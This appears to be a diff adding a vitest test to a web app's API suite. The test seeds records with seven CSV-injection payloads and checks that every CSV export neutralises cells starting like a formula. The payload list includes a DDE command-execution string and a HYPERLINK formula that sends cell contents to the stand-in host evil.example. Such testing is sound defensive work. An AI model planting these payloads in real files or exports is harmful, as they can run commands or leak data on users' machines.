@@ -1,0 +1,203 @@
+/**
+ * Issue 15, point 2: no CSV export can carry a live formula. Records are named with the seven payloads of the
+ * probe, then every operation of the contract that can answer text/csv is called, and no cell of any file may start
+ * the way a formula does, while numbers stay numbers.
+ */
+import { parse } from 'csv-parse/sync';
+import { describe, expect, it } from 'vitest';
+import { readContract, type Json as Doc } from '@pawon/api-client/contract';
+import { sheetStream } from '../src/services/spreadsheet.js';
+import { useTestApp, type Json } from './helpers.js';
+
+const t = useTestApp();
+const { ok } = t;
+
+const PAYLOADS = [
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
+  '+1+1',
+  '-1+1',
+  '@SUM(1)',
+  '\t=1',
+  '\r=1',
+];
+/** What a spreadsheet reads as a formula when it starts a cell (OWASP, CSV Injection). */
+const DANGEROUS = /^[=+\-@\t\r]/;
+
+/** The operations whose 200 answer may be text/csv, read from the contract: a new export is tested without a word here. */
+function csvOperations(): Array<{ operationId: string; method: string; path: string }> {
+  const doc = readContract();
+  const responses = ((doc.components as Doc).responses ?? {}) as Record<string, Doc>;
+  const out: Array<{ operationId: string; method: string; path: string }> = [];
+  for (const [path, item] of Object.entries(doc.paths as Record<string, Record<string, Doc>>)) {
+    for (const [method, op] of Object.entries(item)) {
+      let answer = (op.responses as Record<string, Doc> | undefined)?.['200'];
+      const ref = answer?.$ref;
+      if (typeof ref === 'string') answer = responses[ref.split('/').pop()!];
+      const content = (answer?.content ?? {}) as Record<string, unknown>;
+      if ('text/csv' in content)
+        out.push({ operationId: String(op.operationId), method: method.toUpperCase(), path });
+    }
+  }
+  return out;
+}
+
+/** The cells of a CSV answer (BOM removed); every value comes back as its text, as a spreadsheet would see it. */
+const cellsOf = (body: string): string[][] =>
+  parse(body.replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][];
+
+describe('CSV exports cannot carry formulas', () => {
+  const made: Record<string, Json> = {};
+
+  it('records named with the payloads can be made (the export test below reads them)', async () => {
+    const raw = (await ok('/api/bahanBaku/list', {})).datas[0] as Json;
+    const productCategory = (await ok('/api/category/list', {})).datas[0].id as number;
+    const seededProduct = (await ok('/api/product/list', {})).datas[0] as Json;
+    const box = (
+      await ok('/api/packaging/add', { name: 'Dus Uji Ekspor', unit: 'pcs', unitPrice: 300, packPrice: 500 })
+    ).datas as Json;
+    await ok('/api/bahanKemasan/restock/add', {
+      category: 'restock',
+      materialId: box.id,
+      qty: 100,
+      unitPrice: 300,
+    });
+    for (const [i, p] of PAYLOADS.entries()) {
+      const name = `${p} ${i}`;
+      const category = (await ok('/api/category/add', { name })).datas;
+      const vendor = (await ok('/api/vendor/add', { name, address: p })).datas;
+      const ongkir = (await ok('/api/ongkir/add', { label: name, price: 1000, description: p })).datas;
+      const customer = (
+        await ok('/api/customer/add', {
+          name,
+          category: 'konsumen',
+          address: p,
+          landmark: p,
+          ongkirId: ongkir.id,
+        })
+      ).datas;
+      await ok('/api/product/add', {
+        code: `INJ${i}`,
+        name,
+        categoryId: category.id ?? productCategory,
+        price: 1000,
+        unit: 'pcs',
+        description: p,
+      });
+      const restock = (
+        await ok('/api/bahanBaku/restock/add', {
+          category: 'restock',
+          materialId: raw.id,
+          vendorId: vendor.id,
+          qty: 1,
+          unitPrice: 100,
+          note: p,
+        })
+      ).datas;
+      await ok('/api/stock/add', {
+        reason: 'opening',
+        productId: seededProduct.id,
+        bucket: 'frozen',
+        qty: 1,
+      });
+      const order = (
+        await ok('/api/transaction/add', {
+          customerId: customer.id,
+          note: p,
+          packs: [
+            {
+              materialId: box.id,
+              count: 1,
+              lines: [{ productId: seededProduct.id, bucket: 'frozen', qtyPerPack: 1 }],
+            },
+          ],
+        })
+      ).datas;
+      Object.assign(made, { [`restock${i}`]: restock, [`order${i}`]: order });
+    }
+    // Seven of everything, on a busy 2-core machine.
+  }, 120_000);
+
+  const exports = csvOperations();
+  /** What an export needs besides `format` (a report's type, a trace's start): one request per entry. */
+  const bodies = (operationId: string): Json[] => {
+    switch (operationId) {
+      case 'reportExport':
+        return [{ type: 'customer' }, { type: 'product' }];
+      case 'reportTraceExport':
+        return [{ transactionId: made.order0!.id }, { restockId: made.restock0!.id }];
+      case 'bahanBakuRestockExport':
+      case 'bahanKemasanRestockExport':
+        return [{ category: 'restock' }, { category: 'used' }];
+      default:
+        return [{}];
+    }
+  };
+
+  it('the contract lists the exports of lists, reports, the trace and the import templates', () => {
+    const ids = exports.map((e) => e.operationId);
+    expect(ids).toEqual(
+      expect.arrayContaining([
+        'customerExport',
+        'productImportTemplate',
+        'reportExpensesExport',
+        'reportTraceExport',
+      ]),
+    );
+    expect(ids.length).toBeGreaterThanOrEqual(12);
+  });
+
+  it.each(exports.map((e) => [e.operationId, e] as const))(
+    '%s: no cell starts like a formula, numbers stay numbers',
+    async (operationId, op) => {
+      let payloadCells = 0;
+      for (const extra of bodies(operationId)) {
+        const res =
+          op.method === 'GET'
+            ? await t.call('admin', 'GET', `${op.path}?format=csv`)
+            : await t.call('admin', op.method as 'POST', op.path, { format: 'csv', ...extra });
+        expect(res.statusCode, `${operationId} ${JSON.stringify(extra)}: ${res.body.slice(0, 300)}`).toBe(
+          200,
+        );
+        expect(res.headers['content-type']).toMatch(/^text\/csv/);
+        for (const row of cellsOf(res.body)) {
+          for (const cell of row) {
+            expect(cell, `${operationId}: ${JSON.stringify(cell)}`).not.toMatch(DANGEROUS);
+            // A number is never turned into text: a negative amount stays a number a spreadsheet adds up.
+            expect(cell, operationId).not.toMatch(/^'[-+]?\d+(\.\d+)?$/);
+            if (PAYLOADS.some((p) => cell.startsWith(`'${p}`))) payloadCells++;
+          }
+        }
+      }
+      // Lists of what the payloads named, and reports of their orders and lots, show them (neutralised).
+      if (!/Template$|^produksi|^bahanKemasan|^category/.test(operationId))
+        expect(payloadCells, operationId).toBeGreaterThan(0);
+    },
+  );
+
+  it('writes a negative amount as a number and a text that looks like one as text', async () => {
+    async function* pages() {
+      yield [{ name: '-1+1', amount: -5000 }];
+    }
+    const stream = sheetStream({
+      format: 'csv',
+      title: 'uji',
+      columns: [
+        { header: 'Nama', value: (r: { name: string }) => r.name },
+        { header: 'Nilai', value: (r: { amount: number }) => r.amount, kind: 'money' },
+      ],
+      pages: pages(),
+      total: ['=TOTAL', -5000],
+    });
+    let body = '';
+    for await (const chunk of stream) body += String(chunk);
+    expect(body.replace(/^\uFEFF/, '').split('\n')).toEqual([
+      'Nama,Nilai',
+      `'-1+1,-5000`,
+      `'=TOTAL,-5000`,
+      '',
+    ]);
+    const [, row] = cellsOf(body);
+    expect(Number(row![1])).toBe(-5000);
+  });
+});
